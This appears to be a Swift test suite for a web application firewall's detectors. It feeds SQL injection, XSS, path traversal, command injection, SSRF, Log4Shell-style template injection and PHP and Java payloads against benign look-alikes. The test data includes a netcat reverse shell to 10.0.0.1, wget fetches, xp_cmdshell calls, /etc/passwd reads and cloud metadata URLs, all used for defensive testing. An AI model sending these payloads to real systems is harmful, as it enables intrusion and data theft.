import Foundation
import HTTPTypes
import PropertyBased
import RampartCore
@testable import RampartShield
import Testing

/// Each detector against attack strings and benign look-alikes we wrote ourselves.
@Suite struct DetectionTests {
    @Test func longLocationNamesAreShownCut() {
        let long = String(repeating: "n", count: 5000)
        #expect(InputLocation(.form, long).description == "form:" + String(repeating: "n", count: 48) + "…(5000 bytes)")
        #expect(InputLocation(.query, long, isName: true).description.hasSuffix("…(5000 bytes)#name"))
        let edge = String(repeating: "e", count: 64)
        #expect(InputLocation(.header, edge).description == "header:" + edge)
        // Only the description is cut: exclusions still see the whole name.
        #expect(InputLocation(.form, long).name == long)
    }

    func findings(_ text: String, _ detector: some ThreatDetector, at location: InputLocation = InputLocation(.query, "q")) -> [Finding] {
        var found: [Finding] = []
        detector.inspect(InspectedValue(text, at: location), into: &found)
        return found
    }

    func check(_ detector: some ThreatDetector, attacks: [String], benign: [String], sourceLocation: SourceLocation = #_sourceLocation) {
        for text in attacks {
            #expect(!findings(text, detector).isEmpty, "missed: \(text)", sourceLocation: sourceLocation)
        }
        for text in benign {
            #expect(findings(text, detector).isEmpty, "false positive: \(text) -> \(findings(text, detector).map(\.rule))", sourceLocation: sourceLocation)
        }
    }

    @Test func sqlInjection() {
        check(SQLInjectionDetector(), attacks: [
            "1 union all select password from accounts", "x' or 'a'='a", "admin'--", "7; drop table pupils;", "1) or (2=2",
            "' and sleep(5)#", "1 and extractvalue(1, concat(0x7e, version()))", "x\" or 1=1 /*", "select * from information_schema.tables",
            "-1 UNION/**/SELECT 1,2", "1/*!50000union*/ select 1", "waitfor delay '0:0:5'", "'; exec master..xp_cmdshell 'dir'--", "char(",
        ], benign: [
            "select the best union plan", "O'Brien's quiz", "2 < 3 and 3 > 2", "true or false", "1 and 2 and 3", "what does drop table do?",
            "select all that apply", "load data from spreadsheet", "rock and roll", "x + 1 = 1 + x", "sin(x) + cos(x)", "from A to Z",
        ])
        #expect(findings("$ne", SQLInjectionDetector(), at: InputLocation(.json, "$.password.$ne", isName: true)).first?.rule == "sqli.nosql-operator.ne")
        // Fragments of clauses, system objects alone, hints and MySQL's number quirks.
        check(SQLInjectionDetector(), attacks: [
            "AND 2771=1709)", "or 1#", "|| x = 'y", ") as total from", "1234 AS \"c\" FROM t", ") when 234 then", "procedure analyse (", "select pg_sleep",
            "except select 1,2", "from t group by x", "having 1=", "drop pupils;--", "9 or /*+ hint */ true", "1.e(ascii)", "password::int",
            "xp_cmdshell", "pg_catalog", "u[$ne]", "or '{\"a\":1}' -> 'a' = 1",
        ], benign: [
            "such as milk from cows", "when 5 then", "away from home where I live", "sort from a to z by name", "the procedure", "tempo",
            "C++ std::string", "1e5 (one hundred thousand)", "quiz[3]",
        ])
        #expect(findings("schema_name", SQLInjectionDetector(), at: InputLocation(.query, "schema_name", isName: true)).isEmpty)
        // The prefilter passes only what could hold an injection shape.
        #expect(!SQLInjectionDetector.maySQL(Array("which fjord is the longest in norway?".utf8)))
        for text in ["a or b", "x'", "1.e.tables", "9 /*+ h */", "select", "information_schema", "exec xp_dirtree", "a::int"] {
            #expect(SQLInjectionDetector.maySQL(Array(text.utf8)), "\(text)")
        }
    }

    @Test func crossSiteScripting() {
        check(XSSDetector(), attacks: [
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\" onmouseover=\"alert(1)", "<a href=\"java\tscript:alert(1)\">x</a>",
            "<svg/onload=alert(1)>", "<iframe src=//example.org>", "javascript:alert(document.domain)", "document.cookie", "self['alert'](1)",
            "<body onpageshow=x()>", "&lt;script&gt;alert(1)&lt;/script&gt;", "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        ], benign: [
            "<b>bold</b> text", "a < b > c", "use the <em> tag", "I love JavaScript", "x => x * 2", "on=1", "online: yes", "see the script",
        ])
    }

    @Test func pathTraversal() {
        check(PathTraversalDetector(), attacks: ["../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fboot.ini", "/etc/shadow", "....//....//x"],
              benign: ["chapter 3.2", "path/to/file", "etc. and so on"])
        // One climb out of a directory is worth noting, not refusing alone.
        #expect(findings("../images/cat.png", PathTraversalDetector()).map(\.severity) == [.error])
        let path = { (text: String) in self.findings(text, PathTraversalDetector(), at: InputLocation(.path)).map(\.rule) }
        #expect(path("/.git/config").contains("lfi.hidden-file"))
        #expect(path("/backup.sql") == ["lfi.restricted-extension"])
        #expect(path("/.well-known/security.txt").isEmpty)
        #expect(path("/static/js/main.4f3a9c.js").isEmpty)
    }

    @Test func commandInjection() {
        check(CommandInjectionDetector(), attacks: [
            "; cat /etc/hosts", "x | nc -e /bin/sh 10.0.0.1 4444", "$(whoami)", "`id`", "a && wget http://example.org/x", "{cat,/etc/hosts}",
            "c$@at /etc/hosts", "x;ls${IFS}-la", "cmd /c dir", "for %a in (a b) do echo %a", "if /i \"%x%\"==\"y\" echo z", "cat /etc/hosts",
        ], benign: [
            "cat videos", "python tutorial for beginners", "Tom & Jerry", "news & time", "copy & paste tips", "find my quizzes",
            "I like cats; time flies", "ping pong", "bash scripting", "if you want to do it",
        ])
        // Shell-only disguises, wrappers, globs, braces, fork bombs, arithmetic, batch and
        // PowerShell forms, and mail commands after a leading line break.
        check(CommandInjectionDetector(), attacks: [
            "'wh'oami", "c\\at notes.txt", "pi$()ng 10.0.0.1", "ti''me sh -c id", "time ifconfig", "strace ifconfig", "perf --version", ";ps", "|id",
            "cat /et*/pa??wd", "/???/?s -la", "/usr/[a-z]in/bash", "c{a,oun}t", "{l,-lh}s", "f(){ f|f& };f", "$[2+2]", "$((6*7))",
            "alias ll=ls", "if exist secrets.txt del secrets.txt", "if 2 geq 15 echo bigger", "&FOR %a IN (a,b)DO echo %a",
            "Invoke-WebRequest http://example.org/x.ps1", "\r\nMAIL FROM:<a@example.org>", "\r\nRETR 1", "\r\na001 EXAMINE INBOX", "() {",
        ], benign: [
            "I'd like a quiz", "don't stop", "O'Brien's cat", "history -- world war II", "nice time", "the set {1,2,3}", "costs $5 (tax incl.)",
            "if not defined then skip", "data:image/png;base64,iVBORw0KGgo=", "text/html;charset=utf-8", "/api/*/items", "who is it?",
            "\nI select the answer", "\nData\nmore text", "a function(){ return 1 }",
        ])
        // A User-Agent made of products is not a command line; one made of a program and
        // its arguments is.
        let agent = { (text: String) in self.findings(text, CommandInjectionDetector(), at: InputLocation(.header, "user-agent")).map(\.rule) }
        #expect(agent("ansible all -m ping") == ["rce.header-command.ansible"])
        #expect(agent("visudo") == ["rce.header-command.visudo"])
        for product in ["Ruby", "Go 1.1 package http", "Mozilla/5.0 (X11; Linux x86_64)", "curl/8.5.0", "Links (2.1; Linux)", "python-requests/2.32"] {
            #expect(agent(product).isEmpty, "\(product)")
        }
    }

    @Test func globsMatchAsTheShellWould() {
        #expect(Glob.matches(Array("/e?c/*wd".utf8)[...], Array("/etc/passwd".utf8)[...]))
        #expect(Glob.matches(Array("/[!a-d]tc".utf8)[...], Array("/etc".utf8)[...]))
        #expect(!Glob.matches(Array("/[!e]tc".utf8)[...], Array("/etc".utf8)[...]))
        #expect(!Glob.matches(Array("/*".utf8)[...], Array("/etc/passwd".utf8)[...]), "* stays within one segment")
        #expect(!Glob.expandsToSystemPath(Array("/static/*.js".utf8)))
    }

    @Test func remoteInclusionAndSSRF() {
        check(RemoteInclusionDetector(), attacks: [
            "http://127.0.0.1/admin", "http://169.254.169.254/latest/meta-data/", "http://2130706433/", "http://0x7f.1/", "http://[::1]:8080/",
            "file:///etc/passwd", "gopher://example.org/_x", "http://metadata.google.internal/", "http://localhost:6379/", "http://10.0.0.5/",
            "http://user@example.org/", "host.docker.internal/", "data:text/plain;base64,SGVsbG8=",
        ], benign: ["https://www.nrk.no/nyheter/", "https://en.wikipedia.org/wiki/Fjord", "data:image/png;base64,iVBORw0KGgo=", "mailto:ola@example.no", "10:30 today"])
        // Inclusion shapes: trailing `?`, explicit ports, userinfo hidden in a path, and URLs
        // in parameters named for paths or includes.
        check(RemoteInclusionDetector(), attacks: ["https://example.org/shell.txt?", "ftp?", "https://example.org:8081/", "http://example.org/:x@evil.example/",
                                                   "http://example.org/@evil.example/"],
              // Look-alikes each shape must leave alone: a question ending in `?` that is not a
              // URL, the web's own port written out, a handle with no dot after `@`, a query.
              benign: ["is it https or http?", "https://example.org:443/", "https://mastodon.social/@ola", "https://example.org/?q=1"])
        let include = { (name: String) in
            self.findings("https://example.org/x", RemoteInclusionDetector(), at: InputLocation(.query, name)).map(\.rule)
        }
        #expect(include("_CONF[path]") == ["rfi.include-parameter"])
        #expect(include("mosConfig_absolute_path") == ["rfi.include-parameter"])
        #expect(include("url").isEmpty)
    }

    @Test func templateAndCodeInjection() {
        check(TemplateInjectionDetector(), attacks: ["${jndi:ldap://x/a}", "${${lower:j}ndi:rmi://x/a}", "${${env:NOPE:-j}ndi:ldap://x}", "{{7*7}}",
                                                     "#{T(java.lang.Runtime).getRuntime()}", "<%= system('id') %>", "{{config.items()}}"],
              benign: ["Hello {{name}}", "costs $5", "#hashtag", "{ a: 1 }", "50% of 80"])
        check(PHPInjectionDetector(), attacks: ["<?php system('id'); ?>", "$_GET['x']", "php://filter/resource=x", "O:8:\"stdClass\":0:{}", "(system)('ls')", "base64_decode ('eA==')"],
              benign: ["a copy (2nd edition)", "the system (as designed)", "$USD (dollars)", "price: $5"])
        check(PHPInjectionDetector(), attacks: ["(sy.(st).em)('id')", "\"system\"(ls)", "[system][0](ls)", "(string)\"sys\".\"tem\"('id')", "<? php echo 1",
                                                "<?xml :echo 1;", "{php}echo 1;{/php}", "posix_getegid()", "ldap_get_entries ($c)", "$f (1)", "$a['x'][0](1)", "$ {'a'}"],
              benign: ["he said \"system\" (twice)", "<?xml version=\"1.0\"?>", "get_user()", "I paid $5 (five)", "Hello ${name}!", "a.(b).c"])
        check(JavaInjectionDetector(), attacks: ["java.lang.Runtime", "new ProcessBuilder(cmd)", "class.module.classLoader.URLs[0]", "rO0ABXNyABFqYXZh", "java.x.Runtime"],
              benign: ["java interview questions", "javascript basics", "processing builders", "the Java runtime is fast", "my.java.notes"])
        check(JavaScriptInjectionDetector(), attacks: ["require('child_process').exec('id')", "{\"__proto__\": {}}", "while(true){}", "x.constructor.constructor('return 1')()", "().__class__.__mro__"],
              benign: ["while we wait", "the constructor of the house", "process for applying"])
    }

    @Test func protocolAttacksAndSessionFixation() {
        check(ProtocolAttackDetector(), attacks: ["x\r\nSet-Cookie: a=b", "a\nGET /admin HTTP/1.1", "x\r\nHTTP/1.1 200 OK", "*)(uid=*", "admin)(|(password=*)"],
              benign: ["(see above) (and below)", "line one\nline two", "a (b) c"])
        let inspector = ThreatInspector(WAFConfiguration())
        var planted = HTTPRequest(method: .get, scheme: "http", authority: "quiz.example.no", path: "/login?jsessionid=ABC123")
        planted.headerFields[.referer] = "https://elsewhere.example/"
        #expect(inspector.inspect(planted, body: nil).findings.contains { $0.kind == .sessionFixation }, "\(inspector.inspect(planted, body: nil).findings)")
        planted.headerFields[.referer] = "https://quiz.example.no/start"
        #expect(!inspector.inspect(planted, body: nil).findings.contains { $0.kind == .sessionFixation })
    }

    @Test func scannersByUserAgent() {
        var found: [Finding] = []
        ScannerDetector().inspect(InspectedValue("sqlmap/1.8#stable (https://sqlmap.org)", at: InputLocation(.header, "user-agent")), into: &found)
        ScannerDetector().inspect(InspectedValue("Mozilla/5.0 (X11; Linux x86_64) Firefox/133.0", at: InputLocation(.header, "user-agent")), into: &found)
        #expect(found.map(\.rule) == ["scanner.agent.sqlmap"])
        // A bare tool name is letters only, which most detectors skip; this one must not.
        var request = HTTPRequest(method: .get, scheme: "http", authority: "x", path: "/")
        request.headerFields[.userAgent] = "WPScan"
        #expect(ThreatInspector(WAFConfiguration()).inspect(request, body: nil).findings.map(\.rule) == ["scanner.agent.wpscan"])
    }

    @Test func uploadsNamedAsPHPScriptsOrSessionFiles() {
        let inspector = ThreatInspector(WAFConfiguration())
        func rules(_ headers: [(String, String)], body: String? = nil) -> [String] {
            var request = HTTPRequest(method: .post, scheme: "http", authority: "x", path: "/api/avatar")
            for (name, value) in headers { request.headerFields[HTTPField.Name(name)!] = value }
            let report = inspector.inspect(request, body: body.map { Array($0.utf8) })
            return report.findings.map(\.rule)
        }
        func multipart(_ filename: String) -> String {
            "--b\r\nContent-Disposition: form-data; name=\"file\"; filename=\"\(filename)\"\r\nContent-Type: image/png\r\n\r\nPNG\r\n--b--\r\n"
        }
        let form = [("Content-Type", "multipart/form-data; boundary=b")]
        // Part headers end in CRLF, which Swift reads as one Character: the file name must not
        // run on into the next header.
        let values = RequestInputs.values(path: "/", query: nil, headers: [.contentType: "multipart/form-data; boundary=b"],
                                          body: Array(multipart("me.png").utf8), skipHeaders: [])
        #expect(values.first { $0.location.name == "file.filename" }?.raw == "me.png")
        #expect(values.first { $0.location.name == "file" && !$0.location.isName } == nil, "a binary part is not inspected as text")
        #expect(rules(form, body: multipart("avatar.php")) == ["php.upload.script"])
        #expect(rules(form, body: multipart("me.png")).isEmpty)
        #expect(rules(form, body: multipart("notes on php.txt")).isEmpty)
        // Apache runs any file with a PHP extension among its extensions; loose parsers drop
        // the spaces around a dot; handlers match `php` plus digits.
        for name in ["shell.php.jpg", "photo. php", "x.php907...", "a.phpt"] {
            #expect(rules(form, body: multipart(name)) == ["php.upload.script"], "\(name)")
        }
        #expect(rules(form, body: multipart("philosophy.jpg")).isEmpty)
        #expect(rules([("X-File-Name", "Holiday.PHTML. ")]) == ["php.upload.script"])
        #expect(rules(form, body: multipart("..\\avatar.png")) == ["lfi.traversal-in-file-name"])
        #expect(rules([("X_Filename", "uploads/sess_9f8e7d6c5b4a39281706f5e4d3")]) == ["php.upload.session-file"])
        #expect(rules([("X-Filename", "session_notes.txt")]).isEmpty)
        #expect(rules([("X-Title", "sess_9f8e7d6c5b4a39281706f5e4d3")]).isEmpty, "only file names")
    }

    @Test func valuesComeFromEveryPartOfTheRequest() {
        let inspector = ThreatInspector(WAFConfiguration())
        var request = HTTPRequest(method: .post, scheme: "http", authority: "x", path: "/api/q?page=1")
        request.headerFields[.contentType] = "application/json"
        request.headerFields[.cookie] = "theme=dark; pref=%3Cscript%3Ealert(1)%3C/script%3E"
        let body = Array(#"{"profile": {"bio": "hello", "links": ["ok", "' or 'x'='x"]}, "select": "all"}"#.utf8)
        let report = inspector.inspect(request, body: body)
        let locations = Set(report.findings.map(\.location.description))
        #expect(locations == ["json:$.profile.links[1]", "cookie:pref"])
        #expect(report.score == 10)
        // Excluded locations are not inspected; globs match list indexes.
        let excluded = inspector.inspect(request, body: body, exclusions: ExclusionList(["json:$.profile.links[*]", "cookie:*"]))
        #expect(excluded.findings.isEmpty)
        // Multipart field values and file names; form fields.
        var upload = HTTPRequest(method: .post, scheme: "http", authority: "x", path: "/upload")
        upload.headerFields[.contentType] = "multipart/form-data; boundary=XyZ"
        let multipart = "--XyZ\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n<svg onload=alert(1)>\r\n--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../etc/passwd\"\r\nContent-Type: image/png\r\n\r\n\u{1}\u{2}\r\n--XyZ--\r\n"
        #expect(Set(inspector.inspect(upload, body: Array(multipart.utf8)).findings.map(\.location.description)) == ["multipart:note", "multipart:f.filename"])
        // Binary bodies are not read as text.
        var image = HTTPRequest(method: .put, scheme: "http", authority: "x", path: "/avatar")
        image.headerFields[.contentType] = "image/png"
        #expect(inspector.inspect(image, body: Array("<script>alert(1)</script>".utf8)).findings.isEmpty)
    }

    @Test func encodedEqualsInANameIsInspectedAsAValue() {
        let inspector = ThreatInspector(WAFConfiguration())
        var request = HTTPRequest(method: .post, scheme: "http", authority: "x", path: "/form")
        request.headerFields[.contentType] = "application/x-www-form-urlencoded"
        let report = inspector.inspect(request, body: Array("pay%3D1+union+select+password+from+users".utf8))
        #expect(report.findings.contains { $0.location == InputLocation(.form, "pay") && $0.kind == .sqlInjection })
    }

    @Test func refererQueryValuesAreInspected() {
        let inspector = ThreatInspector(WAFConfiguration())
        var request = HTTPRequest(method: .get, scheme: "http", authority: "x", path: "/")
        request.headerFields[.referer] = "https://example.org/search?q=1%27+union+select+password+from+users--&page=2"
        #expect(inspector.inspect(request, body: nil).findings.contains { $0.location == InputLocation(.header, "referer-query") })
        request.headerFields[.referer] = "https://example.org/search?q=test+test&page=2"
        #expect(inspector.inspect(request, body: nil).findings.isEmpty)
    }

    @Test func base64IsLookedInto() {
        let inspector = ThreatInspector(WAFConfiguration())
        let encoded = Data("java.lang.Runtime.getRuntime".utf8).base64EncodedString()
        let request = HTTPRequest(method: .get, scheme: "http", authority: "x", path: "/x?data=\(encoded.replacingOccurrences(of: "=", with: "%3D"))")
        #expect(inspector.inspect(request, body: nil).findings.contains { $0.kind == .javaInjection })
        // A fragment cut from the middle of a base64 stream decodes at its own alignment:
        // each suffix of the encoding of "xyz" + a class name still yields the name.
        for prefix in ["", "x", "xy"] {
            let stream = Data((prefix + "ProcessBuilder").utf8).base64EncodedString().replacingOccurrences(of: "=", with: "")
            for cut in 0..<4 {
                let fragment = String(stream.dropFirst(cut))
                let decoded = (0..<4).map { String(decoding: Base64Text.decode(Array(fragment.utf8)[...], phase: $0), as: UTF8.self) }
                #expect(decoded.contains { $0.lowercased().contains("essbuilder") }, "\(fragment)")
            }
        }
        // A value that decodes to nothing but a runtime class name is an attack; prose that
        // mentions a runtime, encoded, is not.
        let runtime = Data("Runtime".utf8).base64EncodedString()
        #expect(inspector.inspect(HTTPRequest(method: .get, scheme: "http", authority: "x", path: "/x?v=\(runtime.replacingOccurrences(of: "=", with: ""))"), body: nil)
            .findings.map(\.rule).contains("java.encoded-class-name"))
        let prose = Data("the Node runtime, version 20".utf8).base64EncodedString().replacingOccurrences(of: "=", with: "")
        #expect(inspector.inspect(HTTPRequest(method: .get, scheme: "http", authority: "x", path: "/x?v=\(prose)"), body: nil).findings.isEmpty)
    }

    @Test func normalizationDecodesLayersAndNeverGrows() async {
        #expect(String(decoding: Normalizer.normalize("%253Cscript%253E"), as: UTF8.self) == "<script>")
        #expect(String(decoding: Normalizer.normalize("&#x3C;&lt;%u003c\\x3c\\u003c"), as: UTF8.self) == "<<<<<")
        #expect(String(decoding: Normalizer.normalize("%c0%ae%c0%ae/ＳＥＬＥＣＴ"), as: UTF8.self) == "../select")
        // Properties: decoding never lengthens the input; one more layer of percent-encoding
        // decodes back to the same text; and a normalized value is a fixed point unless it
        // still holds an escape character (the bound of rounds may stop deeper nesting).
        await propertyCheck(input: Gen.uint8(in: 32...126).array(of: 0...40)) { bytes in
            let once = Normalizer.normalize(bytes)
            #expect(once.count <= bytes.count)
            let encoded = Array(bytes.map { String(format: "%%%02X", $0) }.joined().utf8)
            let decoded = Normalizer.normalize(encoded)
            #expect(decoded.count <= encoded.count)
            let escapes = [UInt8(ascii: "%"), UInt8(ascii: "&"), UInt8(ascii: "\\")]
            if !bytes.contains(where: escapes.contains) { #expect(decoded == once) }
            if !once.contains(where: escapes.contains) { #expect(Normalizer.normalize(once) == once) }
        }
    }

    @Test func tokenizersSurviveAdversarialInput() async {
        // Fuzz: random bytes through every detector; no crash, and the work is bounded (the
        // whole run is a few thousand inputs of up to 2 KiB).
        let inspector = ThreatInspector(WAFConfiguration())
        await propertyCheck(input: Gen.uint8().array(of: 0...2048)) { bytes in
            let text = String(decoding: bytes, as: UTF8.self)
            var request = HTTPRequest(method: .post, scheme: "http", authority: "x", path: "/x")
            request.headerFields[.contentType] = "application/json"
            _ = inspector.inspect(request, body: bytes)
            for detector in ThreatInspector.allDetectors() {
                var found: [Finding] = []
                detector.inspect(InspectedValue(text, at: InputLocation(.body)), into: &found)
            }
        }
        // Deep nesting is refused by the JSON reader rather than recursed into.
        let deep = String(repeating: "[", count: 100_000) + String(repeating: "]", count: 100_000)
        var request = HTTPRequest(method: .post, scheme: "http", authority: "x", path: "/x")
        request.headerFields[.contentType] = "application/json"
        _ = inspector.inspect(request, body: Array(deep.utf8))
        _ = inspector.inspect(request, body: Array(String(repeating: "'or(", count: 20_000).utf8))
    }

    @Test func configurationIsValidated() {
        let issues = WAFConfiguration(threshold: 0, disabled: ["sqli"], exclude: ["q"]).validate(at: "shield.waf")
        #expect(issues.map(\.path) == ["shield.waf.threshold", "shield.waf.disabled[0]", "shield.waf.exclude[0]"])
    }
}

/// Our benign corpus (Tests/Corpora/benign.jsonl, written by scripts/make-benign-corpus.py)
/// with the exclusions of benchmarks/waf/rampart.yml: at most 1% blocked.
@Test func benignCorpusIsRarelyBlocked() throws {
    let inspector = ThreatInspector(WAFConfiguration())
    let url = URL(fileURLWithPath: #filePath).deletingLastPathComponent().appendingPathComponent("../Corpora/benign.jsonl")
    let text = try String(contentsOf: url, encoding: .utf8)
    var total = 0
    var blocked: [String] = []
    for line in text.split(separator: "\n") {
        let record = try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])
        let uri = try #require(record["uri"] as? String)
        var request = HTTPRequest(method: .init(try #require(record["method"] as? String))!, scheme: "http", authority: "quiz.example.no", path: uri)
        for (name, value) in try #require(record["headers"] as? [String: String]) { request.headerFields[HTTPField.Name(name)!] = value }
        let exclusions: [String] = switch uri {
        case let u where u.hasPrefix("/api/questions"): ["json:$.title", "json:$.body", "json:$.explanation", "json:$.answers[*].text", "json:$.code"]
        case let u where u.hasPrefix("/api/quizzes"): ["json:$.questions[*].text"]
        case let u where u.hasPrefix("/api/forum"): ["json:$.content", "form:content"]
        default: []
        }
        let report = inspector.inspect(request, body: (record["body"] as? String).map { Array($0.utf8) }, exclusions: ExclusionList(exclusions))
        total += 1
        if report.score >= 5 { blocked.append("\(record["id"]!): \(report.findings.map(\.rule))") }
    }
    #expect(total >= 500)
    #expect(blocked.count * 100 <= total, "\(blocked)")
}
